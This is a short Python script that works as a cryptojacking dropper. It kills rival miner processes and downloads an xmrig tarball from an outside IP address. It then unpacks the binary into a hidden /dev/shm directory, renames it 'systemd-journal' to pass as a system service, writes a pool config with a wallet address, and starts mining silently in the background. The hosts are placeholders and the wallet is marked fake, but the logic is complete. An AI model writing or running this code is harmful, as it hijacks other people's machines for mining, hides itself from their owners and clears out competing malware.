import os
import json
import shutil
import subprocess
import tarfile
import urllib.request

POOL = "stratum+tcp://pool.hashvault-mirror.example:3333"
BACKUP_POOL = "stratum+ssl://198.51.100.201:443"
# fake wallet: right shape, bogus body
WALLET = "49DEFANGEDxSAMPLExWALLETxFAKEx9DEFANGEDxSAMPLExWALLETxFAKEx9DEFANGEDxSAMPLExWALLETxFAKEx9DEFANG"
PKG = "http://198.51.100.201/x/xmrig-6.21.0-linux-static-x64.tar.gz"
HOME = "/dev/shm/.X11-unix-cache"


def kill_rivals():
    for name in ("xmrig", "kinsing", "kdevtmpfsi", "c3pool", "minerd"):
        subprocess.call(["pkill", "-9", "-f", name],
                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def install():
    os.makedirs(HOME, exist_ok=True)
    tgz = os.path.join(HOME, "p.tgz")
    urllib.request.urlretrieve(PKG, tgz)
    with tarfile.open(tgz) as t:
        t.extractall(HOME)
    os.remove(tgz)
    for root, _, files in os.walk(HOME):
        if "xmrig" in files:
            dst = os.path.join(HOME, "systemd-journal")
            shutil.move(os.path.join(root, "xmrig"), dst)
            os.chmod(dst, 0o755)
            return dst
    return None


def config():
    cfg = {
        "autosave": False,
        "cpu": {"enabled": True, "max-threads-hint": 90},
        "donate-level": 0,
        "pools": [
            {"url": POOL, "user": WALLET, "pass": os.uname().nodename, "keepalive": True},
            {"url": BACKUP_POOL, "user": WALLET, "pass": "x", "tls": True},
        ],
    }
    path = os.path.join(HOME, "config.json")
    with open(path, "w") as f:
        json.dump(cfg, f)
    return path


kill_rivals()
binpath = install()
if binpath:
    subprocess.Popen([binpath, "-c", config(), "--donate-level=0", "--background",
                      "-o", POOL, "-u", WALLET, "-k", "--coin", "monero"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
